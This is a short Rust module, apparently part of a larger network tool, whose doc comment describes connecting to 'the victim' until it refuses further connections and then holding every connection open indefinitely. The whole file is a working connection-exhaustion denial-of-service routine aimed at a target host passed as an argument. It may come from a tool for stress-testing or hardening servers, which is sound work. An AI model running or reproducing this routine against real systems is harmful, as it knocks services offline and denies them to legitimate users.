//! Connects to the victim until it may have no more connections, and keeps them all.

use crate::{PATIENT, argument, tcp, until_refused};

pub(crate) fn main() {
    let mut kept = Vec::new();
    until_refused("connections", |_| tcp::connect(&argument(1), "", PATIENT).map(|connection| kept.push(connection)));
    drop(crate::time::sleep(u64::MAX));
}
